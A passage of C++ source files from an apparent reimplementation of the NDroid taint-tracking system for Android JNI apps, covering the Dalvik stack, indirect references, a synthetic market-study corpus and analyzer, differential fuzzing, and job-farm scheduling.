  const GuestAddr save_area = fp_ - kSaveAreaSize;
  fp_ = memory_.read32(save_area);
  sp_ = memory_.read32(save_area + 8);
}

GuestAddr DvmStack::push_outs(u32 arg_count) {
  const u32 total = 8u * arg_count + 4;  // + return-taint slot
  if (sp_ - total < bottom_) throw GuestFault("DVM stack overflow (outs)");
  sp_ -= total;
  for (u32 i = 0; i < total; i += 4) memory_.write32(sp_ + i, 0);
  return sp_;
}

void DvmStack::pop_outs(u32 arg_count) { sp_ += 8u * arg_count + 4; }

}  // namespace ndroid::dvm
