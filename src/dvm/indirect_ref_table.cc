#include "dvm/indirect_ref_table.h"

namespace ndroid::dvm {

void IndirectRefTable::push_frame() { frames_.emplace_back(); }

IndirectRef IndirectRefTable::pop_frame(IndirectRef survivor) {
  if (frames_.empty()) {
    throw GuestFault("PopLocalFrame without a matching PushLocalFrame");
  }
  Object* surviving_obj = nullptr;
  if (survivor != 0 && is_valid(survivor)) {
    surviving_obj = entries_[index_of(survivor)].obj;
  }
  for (u32 index : frames_.back()) {
    if (index < entries_.size()) entries_[index].live = false;
  }
  frames_.pop_back();
  if (surviving_obj != nullptr) {
    return add(surviving_obj, RefKind::kLocal);
  }
  return 0;
}

IndirectRef IndirectRefTable::add(Object* obj, RefKind kind) {
  // Reuse a dead slot if available, bumping its serial so stale handles to
  // the old occupant stop validating.
  u32 index = static_cast<u32>(entries_.size());
  for (u32 i = 0; i < entries_.size(); ++i) {
    if (!entries_[i].live) {
      index = i;
      break;
    }
  }
  if (index == entries_.size()) entries_.push_back(Entry{});
  Entry& e = entries_[index];
  e.obj = obj;
  e.serial = (e.serial + 1) & 0xFFF;
  e.live = true;
  e.kind = kind;
  if (kind == RefKind::kLocal && !frames_.empty()) {
    frames_.back().push_back(index);
  }
  return 0x80000000u | (e.serial << 18) | (index << 2) |
         static_cast<u32>(kind);
}

Object* IndirectRefTable::decode(IndirectRef ref) const {
  if (!is_valid(ref)) {
    throw GuestFault("dvmDecodeIndirectRef: stale or bogus reference 0x" +
                     std::to_string(ref));
  }
  return entries_[index_of(ref)].obj;
}

bool IndirectRefTable::is_valid(IndirectRef ref) const {
  if ((ref & 0x80000000u) == 0) return false;
  const u32 index = index_of(ref);
  if (index >= entries_.size()) return false;
  const Entry& e = entries_[index];
  return e.live && e.serial == serial_of(ref);
}

void IndirectRefTable::remove(IndirectRef ref) {
  if (!is_valid(ref)) return;
  entries_[index_of(ref)].live = false;
}

IndirectRef IndirectRefTable::find(const Object* obj) const {
  for (u32 i = 0; i < entries_.size(); ++i) {
    const Entry& e = entries_[i];
    if (e.live && e.obj == obj) {
      return 0x80000000u | (e.serial << 18) | (i << 2) |
             static_cast<u32>(e.kind);
    }
  }
  return 0;
}

u32 IndirectRefTable::live_count() const {
  u32 n = 0;
  for (const Entry& e : entries_) n += e.live;
  return n;
}

std::vector<Object*> IndirectRefTable::live_objects() const {
  std::vector<Object*> out;
  for (const Entry& e : entries_) {
    if (e.live) out.push_back(e.obj);
  }
  return out;
}

}  // namespace ndroid::dvm
