// The §III market-study analyzer: classifies apps that may use JNI into the
// paper's three types and derives the reported statistics.
//
//   Type I   — invoke System.load()/System.loadLibrary();
//   Type II  — bundle native libraries without such invocations;
//   Type III — written in pure native code.
#pragma once

#include <map>
#include <span>
#include <string>
#include <vector>

#include "market/corpus.h"

namespace ndroid::market {

enum class AppType : u8 { kNone, kType1, kType2, kType3 };

struct StudyResult {
  u32 total = 0;
  u32 type1 = 0;
  u32 type2 = 0;
  u32 type3 = 0;
  u32 type3_games = 0;
  u32 type3_entertainment = 0;

  /// Category -> count among type I apps (Fig. 2).
  std::map<std::string, u32> type1_categories;

  u32 type1_without_libs = 0;
  u32 type1_without_libs_admob = 0;

  u32 type2_with_dex_loader = 0;

  /// Library name -> number of apps bundling it.
  std::map<std::string, u32> library_popularity;

  /// Native-declaration class -> number of lib-less type I apps containing
  /// it (the paper's "sorted these Java classes according to the number of
  /// applications using them").
  std::map<std::string, u32> native_decl_class_popularity;

  /// The top-N native-declaration classes by app count.
  [[nodiscard]] std::vector<std::pair<std::string, u32>>
  top_native_decl_classes(u32 n) const;
  /// Fraction of lib-less type I apps containing every one of `classes`.
  [[nodiscard]] double share_with_classes(
      const std::vector<std::string>& classes) const;
  u32 apps_with_all_admob_classes = 0;

  [[nodiscard]] double type1_fraction() const {
    return total == 0 ? 0.0 : static_cast<double>(type1) / total;
  }
  [[nodiscard]] double category_share(const std::string& category) const;
  [[nodiscard]] std::vector<std::pair<std::string, u32>> top_libraries(
      u32 n) const;
};

[[nodiscard]] AppType classify(const AppRecord& app);

StudyResult analyze(std::span<const AppRecord> corpus);

}  // namespace ndroid::market
