#include "market/corpus.h"

#include <algorithm>
#include <random>

namespace ndroid::market {

const std::vector<std::pair<std::string, u32>>& category_shares() {
  static const std::vector<std::pair<std::string, u32>> shares = {
      {"Game", 42},          {"Music And Audio", 5}, {"Personalization", 5},
      {"Communication", 4},  {"Entertainment", 4},   {"Tools", 3},
      {"Sports", 3},         {"Travel", 3},          {"Casual", 3},
      {"Productivity", 3},   {"Arcade", 3},          {"Books", 2},
      {"Lifestyle", 2},      {"Education", 2},       {"Media And Video", 2},
      {"Puzzle", 2},         {"Other", 12},
  };
  return shares;
}

const std::vector<std::pair<std::string, u32>>& library_popularity_weights() {
  static const std::vector<std::pair<std::string, u32>> weights = {
      {"libunity.so", 30},          {"libmono.so", 28},
      {"libgdx.so", 14},            {"libbox2d.so", 10},
      {"libcocos2dcpp.so", 9},      {"libopenal.so", 7},
      {"libstlport_shared.so", 12}, {"libcore.so", 6},
      {"libstagefright_froyo.so", 5}, {"libffmpeg.so", 8},
      {"libmp3decoder.so", 4},      {"libcrypto_embedded.so", 3},
      {"libprotocol_native.so", 3}, {"libadmob_jni.so", 2},
  };
  return weights;
}

const std::vector<std::string>& admob_classes() {
  static const std::vector<std::string> classes = {
      "Lcom/admob/android/ads/AdView;",
      "Lcom/admob/android/ads/AdManager;",
      "Lcom/admob/android/ads/AdContainer;",
      "Lcom/admob/android/ads/InterstitialAd;",
      "Lcom/admob/android/ads/analytics/InstallReceiver;",
      "Lcom/admob/android/ads/AdWhirlLayout;",
      "Lcom/admob/android/ads/util/AdUtil;",
      "Lcom/admob/android/ads/video/AdVideoView;",
  };
  return classes;
}

std::vector<AppRecord> generate_corpus(const CorpusParams& p) {
  std::mt19937_64 rng(p.seed);
  std::uniform_real_distribution<double> unit(0.0, 1.0);

  // Category sampling for type I apps.
  const auto& shares = category_shares();
  std::vector<u32> cat_cdf;
  u32 acc = 0;
  for (const auto& [name, pct] : shares) {
    acc += pct;
    cat_cdf.push_back(acc);
  }
  auto sample_category = [&]() -> const std::string& {
    const u32 roll = static_cast<u32>(rng() % acc);
    for (u32 i = 0; i < cat_cdf.size(); ++i) {
      if (roll < cat_cdf[i]) return shares[i].first;
    }
    return shares.back().first;
  };

  const auto& libs = library_popularity_weights();
  u32 lib_total = 0;
  for (const auto& [name, w] : libs) lib_total += w;
  auto sample_lib = [&]() -> const std::string& {
    u32 roll = static_cast<u32>(rng() % lib_total);
    for (const auto& [name, w] : libs) {
      if (roll < w) return name;
      roll -= w;
    }
    return libs.back().first;
  };

  const u32 type1_count = static_cast<u32>(
      p.type1_fraction * static_cast<double>(p.total_apps) + 0.5);
  const u32 type3_count = p.type3_games + p.type3_entertainment;

  std::vector<AppRecord> corpus;
  corpus.reserve(p.total_apps);

  u32 made_type1 = 0, made_type2 = 0, made_type3 = 0;
  u32 made_t1_nolib = 0, made_t2_dex = 0;
  for (u32 i = 0; i < p.total_apps; ++i) {
    AppRecord app;
    app.package = "com.app" + std::to_string(i);
    if (made_type1 < type1_count) {
      ++made_type1;
      app.calls_load_library = true;
      app.category = sample_category();
      if (made_t1_nolib < p.type1_without_libs) {
        ++made_t1_nolib;
        app.bundles_native_libs = false;
        app.admob_native_decls = unit(rng) < p.admob_fraction;
        if (app.admob_native_decls) {
          // Repackaged apps ship the whole plugin: all eight classes.
          app.native_decl_classes = admob_classes();
        } else {
          // Leftover declarations from assorted removed libraries.
          app.native_decl_classes.push_back(
              "Lcom/vendor" + std::to_string(rng() % 200) + "/NativeBridge;");
        }
      } else {
        app.bundles_native_libs = true;
        const u32 nlibs = 1 + static_cast<u32>(rng() % 3);
        for (u32 k = 0; k < nlibs; ++k) {
          app.native_libs.push_back(sample_lib());
        }
      }
    } else if (made_type2 < p.type2_count) {
      ++made_type2;
      app.bundles_native_libs = true;
      app.category = sample_category();
      app.native_libs.push_back(sample_lib());
      if (made_t2_dex < p.type2_loadable_dex) {
        ++made_t2_dex;
        app.embeds_dex_loader = true;
      }
    } else if (made_type3 < type3_count) {
      ++made_type3;
      app.pure_native = true;
      app.bundles_native_libs = true;
      app.category = made_type3 <= p.type3_games ? "Game" : "Entertainment";
      app.native_libs.push_back("libmain.so");
    } else {
      app.category = sample_category();
    }
    corpus.push_back(std::move(app));
  }

  // Deterministic shuffle so types are interleaved like a real crawl.
  std::shuffle(corpus.begin(), corpus.end(), rng);
  return corpus;
}

}  // namespace ndroid::market
