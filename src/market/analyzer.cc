#include "market/analyzer.h"

#include <algorithm>

namespace ndroid::market {

AppType classify(const AppRecord& app) {
  if (app.pure_native) return AppType::kType3;
  if (app.calls_load_library) return AppType::kType1;
  if (app.bundles_native_libs) return AppType::kType2;
  return AppType::kNone;
}

double StudyResult::category_share(const std::string& category) const {
  if (type1 == 0) return 0.0;
  auto it = type1_categories.find(category);
  return it == type1_categories.end()
             ? 0.0
             : static_cast<double>(it->second) / type1;
}

std::vector<std::pair<std::string, u32>> StudyResult::top_libraries(
    u32 n) const {
  std::vector<std::pair<std::string, u32>> sorted(library_popularity.begin(),
                                                  library_popularity.end());
  std::sort(sorted.begin(), sorted.end(), [](const auto& a, const auto& b) {
    return a.second > b.second;
  });
  if (sorted.size() > n) sorted.resize(n);
  return sorted;
}

std::vector<std::pair<std::string, u32>> StudyResult::top_native_decl_classes(
    u32 n) const {
  std::vector<std::pair<std::string, u32>> sorted(
      native_decl_class_popularity.begin(),
      native_decl_class_popularity.end());
  std::sort(sorted.begin(), sorted.end(), [](const auto& a, const auto& b) {
    return a.second > b.second;
  });
  if (sorted.size() > n) sorted.resize(n);
  return sorted;
}

double StudyResult::share_with_classes(
    const std::vector<std::string>& classes) const {
  if (type1_without_libs == 0 || classes.empty()) return 0.0;
  // Each AdMob-carrying app holds the full plugin, so the count of apps
  // holding all of them equals the per-class count minimum.
  u32 min_count = ~0u;
  for (const std::string& cls : classes) {
    auto it = native_decl_class_popularity.find(cls);
    min_count = std::min(min_count,
                         it == native_decl_class_popularity.end()
                             ? 0u
                             : it->second);
  }
  return static_cast<double>(min_count) / type1_without_libs;
}

StudyResult analyze(std::span<const AppRecord> corpus) {
  StudyResult out;
  out.total = static_cast<u32>(corpus.size());
  for (const AppRecord& app : corpus) {
    switch (classify(app)) {
      case AppType::kType1:
        ++out.type1;
        ++out.type1_categories[app.category];
        if (!app.bundles_native_libs) {
          ++out.type1_without_libs;
          if (app.admob_native_decls) ++out.type1_without_libs_admob;
          for (const std::string& cls : app.native_decl_classes) {
            ++out.native_decl_class_popularity[cls];
          }
        }
        break;
      case AppType::kType2:
        ++out.type2;
        if (app.embeds_dex_loader) ++out.type2_with_dex_loader;
        break;
      case AppType::kType3:
        ++out.type3;
        if (app.category == "Game") {
          ++out.type3_games;
        } else {
          ++out.type3_entertainment;
        }
        break;
      case AppType::kNone:
        break;
    }
    for (const std::string& lib : app.native_libs) {
      ++out.library_popularity[lib];
    }
  }
  return out;
}

}  // namespace ndroid::market
