// Synthetic app-market corpus (substitute for the paper's 227,911 Google
// Play APKs, which are proprietary and unobtainable).
//
// The generator is seeded and calibrated to the statistics the paper reports
// in §III, so the *analyzer* (the reproducible artifact — the classification
// logic) is exercised on realistically distributed data:
//   * 37,506 type I apps (invoke System.load/loadLibrary), 16.46% of corpus;
//   * category mix of type I apps per Fig. 2 (Game 42%, ...);
//   * 4,034 type I apps without bundled libraries, 48.1% of which carry the
//     AdMob plugin's native-method declarations;
//   * 1,738 type II apps (bundle libs, never call load), 394 of which embed
//     a compressed dex that can load native libraries;
//   * 16 type III apps (pure native: 11 games, 5 entertainment);
//   * popular libraries from game engines (Unity, libgdx, Box2D, Cocos2D)
//     and bundled NDK/system libs (libstlport_shared.so, ...).
#pragma once

#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::market {

struct AppRecord {
  std::string package;
  std::string category;
  bool calls_load_library = false;  // System.load()/System.loadLibrary()
  bool bundles_native_libs = false;
  bool pure_native = false;
  bool embeds_dex_loader = false;   // compressed dex able to load libs
  bool admob_native_decls = false;  // AdMob plugin native-method classes
  std::vector<std::string> native_libs;
  /// Java classes containing native-method declarations (the paper extracts
  /// and ranks these for type I apps without bundled libraries).
  std::vector<std::string> native_decl_classes;
};

/// The eight AdMob plugin classes the paper identifies among lib-less
/// type I apps ("We identified eight classes, which belong to an AdMob
/// plugin and are used by 48.1% of such apps").
const std::vector<std::string>& admob_classes();

struct CorpusParams {
  u32 total_apps = 227'911;
  u64 seed = 20140623;  // DSN'14 week, for flavour
  double type1_fraction = 37'506.0 / 227'911.0;
  u32 type2_count = 1'738;
  u32 type2_loadable_dex = 394;
  u32 type3_games = 11;
  u32 type3_entertainment = 5;
  u32 type1_without_libs = 4'034;
  double admob_fraction = 0.481;
};

/// Fig. 2 category shares of type I apps, in percent.
const std::vector<std::pair<std::string, u32>>& category_shares();

/// Popular native libraries with relative weights.
const std::vector<std::pair<std::string, u32>>& library_popularity_weights();

std::vector<AppRecord> generate_corpus(const CorpusParams& params = {});

}  // namespace ndroid::market
