// Cross-engine differential fuzzing as a farm workload.
//
// Each kFuzz job generates one seeded random ARM/Thumb program (a bounded
// loop of ALU / memory / conditional instructions that interworks into a
// random Thumb leaf) and executes it under every CPU tier the farm can
// sweep — interpreter, TB cache, TB + software TLB, threaded micro-ops —
// with taint tracking live, diffing final r0, a guest-memory digest, the
// traced-instruction count, and a shadow-state digest against the
// interpreter baseline. The job's checksum folds the baseline digests, so
// leak_digest() comparisons across farm topologies also diff the fuzz
// outcomes; a divergence fails the job with an error naming the tier.
//
// In process mode each program runs inside a crash-disposable job process:
// a seed that crashes the emulator (the exact bug class a fuzzer exists to
// find) costs that seed only, and the supervisor's retry/failed bookkeeping
// records it instead of taking down the batch.
#pragma once

#include <string>

#include "common/types.h"

namespace ndroid::farm::fuzz {

struct Outcome {
  bool ok = false;
  std::string error;  // names the diverging tier/field; empty when ok
  u32 checksum = 0;   // folded baseline digests (r0/mem/traced/shadow)
  u64 instructions_traced = 0;
};

/// Generates the program for `seed` and runs the full differential sweep.
/// Throws only on emulator faults (GuestFault etc.) — run_job turns those
/// into a failed JobResult, and in process mode a hard crash becomes a
/// death frame.
Outcome run_differential(u64 seed);

}  // namespace ndroid::farm::fuzz
