// Per-job execution: one isolated Device + NDroid per JobSpec.
#include <chrono>
#include <optional>
#include <stdexcept>

#include "apps/cfbench.h"
#include "apps/leak_cases.h"
#include "apps/monkey.h"
#include "apps/real_apps.h"
#include "core/ndroid.h"
#include "farm/farm.h"
#include "farm/fuzz.h"
#include "farm/market_app.h"
#include "market/analyzer.h"

namespace ndroid::farm {

EngineTier parse_engine(const std::string& name) {
  if (name == "interp") return EngineTier::kInterp;
  if (name == "tb") return EngineTier::kTb;
  if (name == "tb+tlb") return EngineTier::kTbTlb;
  if (name == "threaded") return EngineTier::kThreaded;
  if (name == "jit") return EngineTier::kJit;
  throw std::invalid_argument("unknown engine tier: " + name +
                              " (expected interp|tb|tb+tlb|threaded|jit)");
}

const char* to_string(EngineTier tier) {
  switch (tier) {
    case EngineTier::kInterp: return "interp";
    case EngineTier::kTb: return "tb";
    case EngineTier::kTbTlb: return "tb+tlb";
    case EngineTier::kThreaded: return "threaded";
    case EngineTier::kJit: return "jit";
  }
  return "?";
}

void apply_engine(android::Device& device, EngineTier tier) {
  device.cpu.set_use_tb_cache(tier != EngineTier::kInterp);
  device.cpu.set_threaded_enabled(tier == EngineTier::kThreaded ||
                                  tier == EngineTier::kJit);
  device.memory.set_tlb_enabled(tier == EngineTier::kTbTlb ||
                                tier == EngineTier::kThreaded ||
                                tier == EngineTier::kJit);
  // No-op on hosts without host-code emission: the job rides the threaded
  // tier (with superword fusion) instead.
  device.cpu.set_jit_enabled(tier == EngineTier::kJit);
}

namespace {

using Clock = std::chrono::steady_clock;

double ms_since(Clock::time_point t0) {
  return std::chrono::duration<double, std::milli>(Clock::now() - t0).count();
}

void collect(JobResult& r, android::Device& device, core::NDroid& nd) {
  r.framework_leaks = device.framework.leaks();
  r.native_leaks = nd.leaks();
  r.summary_gate_skips = nd.summary_gate_skips;
  if (nd.guard() != nullptr) {
    r.tamper_alerts = static_cast<u32>(nd.guard()->alerts().size());
  }
}

/// Picks the job's Device: the fork pool's pre-built copy-on-write template
/// when one is offered (skipping Device construction entirely — the
/// dominant share of setup_ms), else a fresh local one. The template is
/// byte-identical to a default-constructed Device, so results cannot
/// differ.
android::Device& pick_device(std::optional<android::Device>& local,
                             android::Device* snapshot) {
  if (snapshot != nullptr) return *snapshot;
  return local.emplace();
}

void run_leak_case(JobResult& r, const JobSpec& spec, core::NDroidConfig cfg,
                   EngineTier engine, android::Device* snapshot) {
  apps::LeakScenario (*builder)(android::Device&) = nullptr;
  for (const auto& [name, b] : apps::all_cases()) {
    if (name == spec.name) builder = b;
  }
  if (builder == nullptr) throw std::runtime_error("unknown case " + spec.name);

  const auto t0 = Clock::now();
  std::optional<android::Device> local;
  android::Device& device = pick_device(local, snapshot);
  apply_engine(device, engine);
  core::NDroid nd(device, cfg);
  const apps::LeakScenario scenario = builder(device);
  r.timing.setup_ms = ms_since(t0);

  const auto t1 = Clock::now();
  nd.attach_static_analysis();
  r.timing.static_ms = ms_since(t1);

  const auto t2 = Clock::now();
  device.dvm.call(*scenario.entry, {});
  r.timing.run_ms = ms_since(t2);
  collect(r, device, nd);
}

void run_cfbench(JobResult& r, const JobSpec& spec, core::NDroidConfig cfg,
                 EngineTier engine, android::Device* snapshot) {
  const auto t0 = Clock::now();
  std::optional<android::Device> local;
  android::Device& device = pick_device(local, snapshot);
  apply_engine(device, engine);
  core::NDroid nd(device, cfg);
  apps::CfBenchApp app(device);
  const apps::CfWorkload* workload = app.find(spec.name);
  if (workload == nullptr) {
    throw std::runtime_error("unknown workload " + spec.name);
  }
  r.timing.setup_ms = ms_since(t0);

  const auto t1 = Clock::now();
  nd.attach_static_analysis();
  r.timing.static_ms = ms_since(t1);

  const auto t2 = Clock::now();
  r.checksum = app.run(*workload, spec.iterations);
  r.timing.run_ms = ms_since(t2);
  collect(r, device, nd);
}

void run_market_app(JobResult& r, const JobSpec& spec, core::NDroidConfig cfg,
                    EngineTier engine) {
  const auto t0 = Clock::now();
  android::Device device(spec.name);
  apply_engine(device, engine);
  core::NDroid nd(device, cfg);
  const MarketApp app = build_market_app(device, spec);
  r.timing.setup_ms = ms_since(t0);

  const auto t1 = Clock::now();
  nd.attach_static_analysis();
  r.timing.static_ms = ms_since(t1);

  market::AppRecord record;
  record.package = spec.name;
  record.calls_load_library = true;
  record.bundles_native_libs = !spec.native_libs.empty();
  record.native_libs = spec.native_libs;
  switch (market::classify(record)) {
    case market::AppType::kType1: r.market_type = "type1"; break;
    case market::AppType::kType2: r.market_type = "type2"; break;
    case market::AppType::kType3: r.market_type = "type3"; break;
    default: r.market_type = "none"; break;
  }

  const auto t2 = Clock::now();
  u32 checksum = 0;
  u32 arg = 7;
  for (dvm::Method* m : app.natives) {
    const dvm::Slot ret = device.dvm.call(*m, {dvm::Slot{arg, kTaintClear}});
    checksum = checksum * 31 + ret.value;
    arg = checksum | 1;
  }
  r.checksum = checksum;
  r.timing.run_ms = ms_since(t2);
  collect(r, device, nd);
}

void run_real_app(JobResult& r, const JobSpec& spec, core::NDroidConfig cfg,
                  EngineTier engine) {
  const auto t0 = Clock::now();
  apps::LeakScenario (*builder)(android::Device&) = nullptr;
  const char* target_class = nullptr;
  if (spec.name == "qqphonebook") {
    builder = &apps::build_qq_phonebook;
    target_class = "Lcom/tencent/tccsync/LoginUtil;";
  } else if (spec.name == "ephone") {
    builder = &apps::build_ephone;
    target_class = "Lcom/vnet/asip/general/general;";
  } else {
    throw std::runtime_error("unknown real app " + spec.name);
  }

  android::Device device("com." + spec.name);
  apply_engine(device, engine);
  core::NDroid nd(device, cfg);
  builder(device);
  r.timing.setup_ms = ms_since(t0);

  const auto t1 = Clock::now();
  nd.attach_static_analysis();
  r.timing.static_ms = ms_since(t1);

  const auto t2 = Clock::now();
  apps::Monkey monkey(device, spec.monkey_seed);
  monkey.add_target(device.dvm.find_class(target_class));
  const apps::MonkeyReport report = monkey.run(spec.monkey_events, [&] {
    return static_cast<u32>(device.framework.leaks().size() +
                            nd.leaks().size());
  });
  r.first_leaking_method = report.first_leaking_method;
  r.timing.run_ms = ms_since(t2);
  collect(r, device, nd);
}

void run_fuzz(JobResult& r, const JobSpec& spec) {
  // No Device, no NDroid: the job is the bare emulation substrate swept
  // across every execution tier. The differential verdict lands in
  // ok/error; the folded digests land in checksum so leak_digest() carries
  // them across farm topologies.
  const auto t0 = Clock::now();
  const fuzz::Outcome out = fuzz::run_differential(spec.monkey_seed);
  r.checksum = out.checksum;
  r.summary_gate_skips = 0;
  r.timing.run_ms = ms_since(t0);
  if (!out.ok) {
    throw std::runtime_error("fuzz seed " + std::to_string(spec.monkey_seed) +
                             ": " + out.error);
  }
}

}  // namespace

JobResult run_job(const JobSpec& spec, static_analysis::SummaryCache* cache,
                  const FarmOptions& options, android::Device* snapshot) {
  JobResult r;
  r.spec = spec;

  core::NDroidConfig cfg;
  cfg.taint_protection = options.taint_protection;
  cfg.summary_cache = cache;
  if (cache == nullptr) cfg.summary_store = options.store;

  try {
    switch (spec.kind) {
      case JobKind::kLeakCase:
        run_leak_case(r, spec, cfg, options.engine, snapshot);
        break;
      case JobKind::kCfBench:
        run_cfbench(r, spec, cfg, options.engine, snapshot);
        break;
      case JobKind::kMarketApp: run_market_app(r, spec, cfg, options.engine); break;
      case JobKind::kRealApp: run_real_app(r, spec, cfg, options.engine); break;
      case JobKind::kFuzz: run_fuzz(r, spec); break;
    }
    r.ok = true;
  } catch (const std::exception& e) {
    r.ok = false;
    r.error = e.what();
  }
  return r;
}

}  // namespace ndroid::farm
