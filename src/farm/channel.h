// Bounded multi-producer/multi-consumer channel.
//
// Workers push JobResults; the caller thread drains them as a streaming
// aggregator. The bound applies backpressure: a fast worker blocks in
// push() rather than queueing unbounded result memory when the aggregator
// falls behind.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <mutex>
#include <optional>
#include <utility>

namespace ndroid::farm {

template <typename T>
class Channel {
 public:
  explicit Channel(std::size_t capacity) : capacity_(capacity) {}

  Channel(const Channel&) = delete;
  Channel& operator=(const Channel&) = delete;

  /// Blocks while the channel is full. Returns false if the channel was
  /// closed (the value is dropped — only happens on abnormal shutdown).
  bool push(T value) {
    std::unique_lock lock(m_);
    not_full_.wait(lock, [&] { return q_.size() < capacity_ || closed_; });
    if (closed_) return false;
    q_.push_back(std::move(value));
    not_empty_.notify_one();
    return true;
  }

  /// Blocks until a value arrives or the channel is closed and drained;
  /// nullopt means closed-and-empty.
  std::optional<T> pop() {
    std::unique_lock lock(m_);
    not_empty_.wait(lock, [&] { return !q_.empty() || closed_; });
    if (q_.empty()) return std::nullopt;
    T v = std::move(q_.front());
    q_.pop_front();
    not_full_.notify_one();
    return v;
  }

  /// Non-blocking pop: nullopt when the channel is currently empty (whether
  /// or not it is closed). The single-threaded process-pool supervisor uses
  /// this to drain results inline between poll() rounds — it is both
  /// producer and consumer, so a blocking pop would deadlock.
  std::optional<T> try_pop() {
    std::lock_guard lock(m_);
    if (q_.empty()) return std::nullopt;
    T v = std::move(q_.front());
    q_.pop_front();
    not_full_.notify_one();
    return v;
  }

  void close() {
    {
      std::lock_guard lock(m_);
      closed_ = true;
    }
    not_empty_.notify_all();
    not_full_.notify_all();
  }

 private:
  const std::size_t capacity_;
  std::mutex m_;
  std::condition_variable not_empty_;
  std::condition_variable not_full_;
  std::deque<T> q_;
  bool closed_ = false;
};

}  // namespace ndroid::farm
