// Crash-isolated fork-based farm scheduler (see process_pool.h for the
// topology). Everything here runs on the calling thread — the supervisor is
// deliberately single-threaded so every fork() happens with no locks held
// anywhere in the process, and job results stream through the same bounded
// channel + aggregate_result() path the thread scheduler uses.
#include "farm/process_pool.h"

#include <poll.h>
#include <signal.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <deque>

#include "android/device.h"
#include "common/serde.h"
#include "farm/channel.h"
#include "static/library_summary.h"
#include "static/summary_store.h"

namespace ndroid::farm {

namespace wire {

std::vector<u8> encode_result(const JobResult& r) {
  serde::Writer w;
  w.put_u32(r.spec.id);
  w.put_u8(static_cast<u8>(r.spec.kind));
  w.put_str(r.spec.name);
  w.put_u32(r.spec.rep);
  w.put_u32(r.spec.iterations);
  w.put_u32(r.spec.monkey_events);
  w.put_u64(r.spec.monkey_seed);
  w.put_u32(static_cast<u32>(r.spec.native_libs.size()));
  for (const std::string& lib : r.spec.native_libs) w.put_str(lib);

  w.put_u32(r.worker);
  w.put_bool(r.ok);
  w.put_str(r.error);

  w.put_u32(static_cast<u32>(r.native_leaks.size()));
  for (const core::NativeLeak& leak : r.native_leaks) {
    w.put_str(leak.sink);
    w.put_str(leak.destination);
    w.put_u32(leak.taint);
    w.put_str(leak.data);
    w.put_u32(leak.pc);
  }
  w.put_u32(static_cast<u32>(r.framework_leaks.size()));
  for (const taintdroid::LeakReport& leak : r.framework_leaks) {
    w.put_str(leak.sink);
    w.put_str(leak.destination);
    w.put_u32(leak.taint);
    w.put_str(leak.data);
  }

  w.put_u32(r.tamper_alerts);
  w.put_u64(r.summary_gate_skips);
  w.put_u32(r.checksum);
  w.put_str(r.market_type);
  w.put_str(r.first_leaking_method);
  w.put_f64(r.timing.setup_ms);
  w.put_f64(r.timing.static_ms);
  w.put_f64(r.timing.run_ms);
  w.put_u32(r.retries);
  w.put_u64(r.cache_delta.hits);
  w.put_u64(r.cache_delta.misses);
  w.put_u64(r.cache_delta.rebinds);
  w.put_u64(r.cache_delta.store_hits);
  w.put_u64(r.cache_delta.store_writes);
  return w.take();
}

JobResult decode_result(std::span<const u8> payload) {
  serde::Reader rd(payload);
  JobResult r;
  r.spec.id = rd.get_u32();
  const u8 kind = rd.get_u8();
  if (kind > static_cast<u8>(JobKind::kFuzz)) {
    throw serde::DecodeError("bad job kind");
  }
  r.spec.kind = static_cast<JobKind>(kind);
  r.spec.name = rd.get_str();
  r.spec.rep = rd.get_u32();
  r.spec.iterations = rd.get_u32();
  r.spec.monkey_events = rd.get_u32();
  r.spec.monkey_seed = rd.get_u64();
  const u32 nlibs = rd.get_count(4);
  r.spec.native_libs.reserve(nlibs);
  for (u32 i = 0; i < nlibs; ++i) r.spec.native_libs.push_back(rd.get_str());

  r.worker = rd.get_u32();
  r.ok = rd.get_bool();
  r.error = rd.get_str();

  const u32 nnative = rd.get_count(4 * 4 + 4);
  r.native_leaks.reserve(nnative);
  for (u32 i = 0; i < nnative; ++i) {
    core::NativeLeak leak;
    leak.sink = rd.get_str();
    leak.destination = rd.get_str();
    leak.taint = rd.get_u32();
    leak.data = rd.get_str();
    leak.pc = rd.get_u32();
    r.native_leaks.push_back(std::move(leak));
  }
  const u32 nframework = rd.get_count(4 * 4);
  r.framework_leaks.reserve(nframework);
  for (u32 i = 0; i < nframework; ++i) {
    taintdroid::LeakReport leak;
    leak.sink = rd.get_str();
    leak.destination = rd.get_str();
    leak.taint = rd.get_u32();
    leak.data = rd.get_str();
    r.framework_leaks.push_back(std::move(leak));
  }

  r.tamper_alerts = rd.get_u32();
  r.summary_gate_skips = rd.get_u64();
  r.checksum = rd.get_u32();
  r.market_type = rd.get_str();
  r.first_leaking_method = rd.get_str();
  r.timing.setup_ms = rd.get_f64();
  r.timing.static_ms = rd.get_f64();
  r.timing.run_ms = rd.get_f64();
  r.retries = rd.get_u32();
  r.cache_delta.hits = rd.get_u64();
  r.cache_delta.misses = rd.get_u64();
  r.cache_delta.rebinds = rd.get_u64();
  r.cache_delta.store_hits = rd.get_u64();
  r.cache_delta.store_writes = rd.get_u64();
  rd.expect_end();
  return r;
}

std::vector<u8> encode_death(const DeathInfo& d) {
  serde::Writer w;
  w.put_u8(static_cast<u8>(d.cause));
  w.put_i32(d.value);
  return w.take();
}

DeathInfo decode_death(std::span<const u8> payload) {
  serde::Reader rd(payload);
  DeathInfo d;
  const u8 cause = rd.get_u8();
  if (cause > static_cast<u8>(DeathInfo::Cause::kProtocol)) {
    throw serde::DecodeError("bad death cause");
  }
  d.cause = static_cast<DeathInfo::Cause>(cause);
  d.value = rd.get_i32();
  rd.expect_end();
  return d;
}

std::vector<u8> encode_frame(u8 type, u32 job_index,
                             std::span<const u8> payload) {
  serde::Writer w;
  w.put_u32(kFrameMagic);
  w.put_u8(type);
  w.put_u32(job_index);
  w.put_u64(payload.size());
  w.put_bytes(payload);
  w.put_u64(static_analysis::fnv1a(payload));
  return w.take();
}

std::optional<Frame> take_frame(std::vector<u8>& buf) {
  constexpr std::size_t kHeader = 4 + 1 + 4 + 8;
  if (buf.size() < kHeader) return std::nullopt;
  serde::Reader rd(std::span<const u8>(buf.data(), kHeader));
  if (rd.get_u32() != kFrameMagic) throw serde::DecodeError("bad frame magic");
  Frame f;
  f.type = rd.get_u8();
  if (f.type != kFrameResult && f.type != kFrameDeath) {
    throw serde::DecodeError("bad frame type");
  }
  f.job_index = rd.get_u32();
